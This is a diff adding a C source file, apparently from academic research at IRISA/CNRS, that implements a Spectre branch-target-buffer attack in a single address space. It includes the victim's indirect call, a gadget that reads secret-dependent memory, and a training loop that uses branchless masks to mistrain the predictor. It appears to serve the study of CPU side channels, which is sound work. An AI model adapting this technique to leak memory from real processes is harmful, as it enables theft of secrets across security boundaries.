@@ -0,0 +1,93 @@
+/**
+ * \brief  Spectre BTB-SA.
+ * \author Pierre AYOUB -- IRISA, CNRS
+ * \date   2020
+ *
+ * \details This file contain a Spectre attack targeting the Branch Target
+ *          Buffer, in a same address-space and an in-place training.
+ * \warning Same as the PHT variant: code is weird on purpose, to minimize the
+ *          branch predictor and cache overhead.
+ */
+
+#include <stdio.h>
+#include <string.h>
+#include <stdint.h>
+
+/* Contain ARMv8 or x86-64 implementation of flush, rdtsc and [im]fence. */
+#include "asm.h"
+
+#include "spectre_btb_sa.h"
+
+/* * Victim code: */
+
+/* ** Private functions: */
+
+/* Gadget: never called with a malicious offset, except speculatively. */
+static HOT_PATH HOT_SECTION("victim") void gadget(struct spectre_ctx * ctx, size_t x) {
+    ctx->temp &= ctx->array2[ctx->array1[x] * PAGESIZE];
+}
+
+/* Legit target of the attack run. */
+static HOT_PATH HOT_SECTION("victim") void benign(struct spectre_ctx * ctx, size_t x) {
+    (void) ctx;
+    (void) x;
+}
+
+/* Function that will be tricked by Spectre. */
+static HOT_PATH HOT_SECTION("victim") void victim_btb(struct spectre_ctx * ctx, size_t x) {
+    /* Flush the target of the indirect call to add a higher delay. */
+    mfence();
+    flush(&ctx->target);
+    /* Ensure data is flushed at this point. */
+    mfence();
+    ifence();
+    /* The indirect call. Its target is predicted by the BTB while it is
+       loaded, and will be tricked by Spectre during the attack phase. */
+    ctx->target(ctx, x);
+}
+
+/* Same, without the flush, for the benchmark of the victim. */
+static HOT_PATH HOT_SECTION("victim") void victim_btb_bare(struct spectre_ctx * ctx, size_t x) {
+    ctx->target(ctx, x);
+}
+
+/* * Attack code: */
+
+/* ** Public functions: */
+
+int spectre_btb_sa_victim_init(struct spectre_ctx * ctx) {
+    if (strcmp(ctx->args.mitigation, "none")) {
+        fprintf(stderr, "Unknown mitigation for the BTB variant: %s\n", ctx->args.mitigation);
+        return 1;
+    }
+    /* Architectural target, until the attack sets it. */
+    ctx->target      = benign;
+    ctx->victim      = victim_btb;
+    ctx->victim_bare = victim_btb_bare;
+    return 0;
+}
+
+HOT_PATH HOT_SECTION("probe") void spectre_btb_sa_attack(struct spectre_ctx * ctx, size_t training_x, size_t malicious_x) {
+    /* i: Count the number of training and attacks. */
+    int i;
+    /* Offset given to array1 and target of the call, either the training or
+       the attack ones. Mask used to select them. */
+	size_t x, mask;
+
+	/* Execute 30 loops (by default): 5 training runs (gadget, training_x)
+       per attack run (benign, malicious_x). */
+	for (i = ctx->loops; i >= 0; i--) {
+        /* Don't work if we not wait for completion here. */
+        mfence();
+		/* Bit twiddling to set : mask = (i % 6 == 0) ? -1 : 0, without jumps
+           in case those tip off the branch predictor. */
+		mask = ((i % 6) - 1) & ~0xFFFF;
+		mask |= mask >> 16;
+		x = training_x ^ (mask & (malicious_x ^ training_x));
+		ctx->target = (void (*)(struct spectre_ctx *, size_t))
+            ((uintptr_t) gadget ^ (mask & ((uintptr_t) benign ^ (uintptr_t) gadget)));
+
+		/* Call the victim function, either training or attacking it. */
+		victim_btb(ctx, x);
+	}
+}